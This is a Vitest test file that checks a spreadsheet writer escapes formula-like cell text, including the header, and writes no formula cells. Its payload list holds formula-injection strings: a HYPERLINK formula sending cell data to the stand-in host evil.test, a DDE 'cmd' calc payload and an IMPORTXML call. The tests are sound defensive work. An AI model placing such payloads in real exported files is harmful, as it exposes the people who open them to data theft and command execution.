import { expect, test } from 'vitest'
import { readSpreadsheet } from './spreadsheet.ts'
import { writeSheet } from './xlsx-sheet.ts'
import { readZipParts } from './zip-parts.ts'

const STARTERS = ['=', '+', '-', '@', '\t', '\r']
const PAYLOADS = [
  'HYPERLINK("http://evil.test?x="&A1,"click")',
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(1;2)',
  'IMPORTXML("http://evil.test","//a")',
  '2+5+cmd|x',
]
const TEXTS = STARTERS.flatMap(starter => PAYLOADS.map(payload => `${starter}${payload}`))

const columns = [
  { title: '=1+1', width: 12 },
  { title: 'Total', width: 12, format: '#,##0.00' },
]
const file = await writeSheet({ name: 'Hoja1', columns, rows: TEXTS.map((text, index) => [text, -index]) })

test('T18.1 a text that could be run as a formula gets an apostrophe, in the header too', async () => {
  const { rows } = await readSpreadsheet(file, { takesText: false })
  const written = rows.map(([text]) => String(text))
  expect(written).toHaveLength(TEXTS.length + 1)
  expect(written.filter(text => !text.startsWith("'"))).toEqual([])
  expect(written[1]).toBe(`'${TEXTS[0]}`)
})

test('T18.1 no cell is a formula, and a negative number stays a number', async () => {
  const sheet = (await readZipParts(file)).find(({ name }) => name.endsWith('sheet1.xml'))?.content.toString() ?? ''
  expect(sheet).toContain('<c ')
  expect(sheet).not.toMatch(/<f[ >]/)
  const { rows } = await readSpreadsheet(file, { takesText: false })
  expect(rows[3]?.[1]).toBe(-2)
})
